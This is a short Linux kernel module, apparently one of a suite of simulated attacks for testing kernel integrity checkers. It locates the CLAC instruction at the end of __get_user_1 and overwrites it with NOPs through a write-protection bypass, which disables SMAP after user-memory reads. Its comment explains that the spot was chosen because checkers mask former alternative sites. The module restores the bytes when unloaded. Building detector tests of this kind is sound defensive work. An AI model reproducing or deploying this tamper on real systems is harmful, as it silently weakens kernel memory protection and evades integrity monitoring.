// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: foreign bytes where the kernel once put an alternative: its tables of these places are gone after boot, and
 * checkers mask them. Who: no kit that is known.
 * Changes: the CLAC at the end of __get_user_1 becomes NOPs. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/uaccess.h>

KERNEL_SYMBOL(__get_user_1);

static const u8 clac_code[3] = {0x0f, 0x01, 0xca}, nop_code[3] = {0x90, 0x90, 0x90};
static u8 *site;

static int __init start(void)
{
	u8 *at = (u8 *)__get_user_1_at;
	int i;

	if (!at)
		return -ENOENT;
	for (i = 0; i < 80; ++i) {
		if (memcmp(at + i, clac_code, 3) != 0)
			continue;
		site = at + i;
		write_protected(site, nop_code, 3);
		return 0;
	}
	return -ESRCH;
}

static void __exit stop(void)
{
	write_protected(site, clac_code, 3);
}

ATTACK(start, stop);
